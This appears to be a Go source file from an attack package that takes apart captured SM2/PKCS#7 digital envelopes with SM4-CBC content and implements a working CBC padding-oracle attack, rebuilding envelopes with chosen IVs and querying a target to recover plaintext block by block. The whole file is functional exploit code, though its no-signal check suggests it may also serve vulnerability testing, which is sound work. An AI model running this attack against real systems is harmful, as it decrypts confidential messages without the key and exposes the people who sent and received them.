package attack

import (
	"bytes"
	"encoding/asn1"
	"errors"
	"fmt"
)

// blockSize is SM4's block size.
const blockSize = 16

// CBCEnvelope is a captured SM2 digital envelope (PKCS#7 / GM/T 0010 EnvelopedData) whose content
// is SM4-CBC encrypted, taken apart so that its IV and ciphertext can be replaced while the
// recipient's encrypted content key stays as captured: the raw material of a padding oracle.
type CBCEnvelope struct {
	outerOID   asn1.ObjectIdentifier
	version    int
	recipients asn1.RawValue
	ctype      asn1.ObjectIdentifier
	algOID     asn1.ObjectIdentifier
	iv, ct     []byte
}

type eciAlg struct {
	Algorithm  asn1.ObjectIdentifier
	Parameters []byte
}

type eci struct {
	ContentType asn1.ObjectIdentifier
	Algorithm   eciAlg
	Content     []byte `asn1:"tag:0"`
}

type envData struct {
	Version    int
	Recipients asn1.RawValue
	EncContent eci
}

type contentInfo struct {
	ContentType asn1.ObjectIdentifier
	Content     asn1.RawValue `asn1:"explicit,tag:0"`
}

// ParseCBCEnvelope takes a DER EnvelopedData with an SM4-CBC IV parameter apart.
func ParseCBCEnvelope(der []byte) (*CBCEnvelope, error) {
	var ci contentInfo
	if _, err := asn1.Unmarshal(der, &ci); err != nil {
		return nil, fmt.Errorf("attack: content info: %w", err)
	}
	var ed envData
	if _, err := asn1.Unmarshal(ci.Content.Bytes, &ed); err != nil {
		return nil, fmt.Errorf("attack: enveloped data: %w", err)
	}
	iv := ed.EncContent.Algorithm.Parameters
	if len(iv) != blockSize || len(ed.EncContent.Content)%blockSize != 0 || len(ed.EncContent.Content) == 0 {
		return nil, errors.New("attack: not an SM4-CBC envelope")
	}
	return &CBCEnvelope{outerOID: ci.ContentType, version: ed.Version, recipients: ed.Recipients,
		ctype: ed.EncContent.ContentType, algOID: ed.EncContent.Algorithm.Algorithm,
		iv: iv, ct: ed.EncContent.Content}, nil
}

// Blocks is the number of ciphertext blocks.
func (e *CBCEnvelope) Blocks() int { return len(e.ct) / blockSize }

// With returns the envelope with iv and ciphertext ct in place of the captured ones.
func (e *CBCEnvelope) With(iv, ct []byte) ([]byte, error) {
	inner, err := asn1.Marshal(envData{Version: e.version, Recipients: e.recipients,
		EncContent: eci{ContentType: e.ctype, Algorithm: eciAlg{Algorithm: e.algOID, Parameters: iv}, Content: ct}})
	if err != nil {
		return nil, err
	}
	return asn1.Marshal(contentInfo{ContentType: e.outerOID, Content: asn1.RawValue{FullBytes: mustExplicit0(inner)}})
}

func mustExplicit0(inner []byte) []byte {
	b, _ := asn1.Marshal(asn1.RawValue{Class: asn1.ClassContextSpecific, Tag: 0, IsCompound: true, Bytes: inner})
	return b
}

// ErrNoSignal means the target answered every query of a byte position the same way: it is no
// padding oracle.
var ErrNoSignal = errors.New("attack: the target gives no padding signal")

// RecoverBlock runs the classic CBC padding-oracle attack on block i of the captured content:
// it sends envelopes whose content is that one block behind a chosen IV, and valid(der) says
// whether the target's observable answer means "padding was good". It returns the plaintext of
// the block and the number of queries sent, or ErrNoSignal when no candidate stands out.
func (e *CBCEnvelope) RecoverBlock(i int, valid func(der []byte) bool) ([]byte, int, error) {
	if i < 0 || i >= e.Blocks() {
		return nil, 0, errors.New("attack: no such block")
	}
	prev := e.iv
	if i > 0 {
		prev = e.ct[(i-1)*blockSize : i*blockSize]
	}
	target := e.ct[i*blockSize : (i+1)*blockSize]
	inter := make([]byte, blockSize) // D(target)
	queries := 0
	for pad := 1; pad <= blockSize; pad++ {
		pos := blockSize - pad
		x := make([]byte, blockSize)
		for j := pos + 1; j < blockSize; j++ {
			x[j] = inter[j] ^ byte(pad)
		}
		found := -1
		for g := 0; g < 256; g++ {
			x[pos] = byte(g)
			der, err := e.With(x, target)
			if err != nil {
				return nil, queries, err
			}
			queries++
			if !valid(der) {
				continue
			}
			if pad == 1 && pos > 0 {
				// rule out a longer accidental padding: change the byte before and ask again
				y := bytes.Clone(x)
				y[pos-1] ^= 0xff
				der2, _ := e.With(y, target)
				queries++
				if !valid(der2) {
					continue
				}
			}
			if found >= 0 {
				return nil, queries, ErrNoSignal // two candidates: the answers carry no padding signal
			}
			found = g
		}
		if found < 0 {
			return nil, queries, ErrNoSignal
		}
		inter[pos] = byte(found) ^ byte(pad)
	}
	plain := make([]byte, blockSize)
	for j := range plain {
		plain[j] = inter[j] ^ prev[j]
	}
	return plain, queries, nil
}
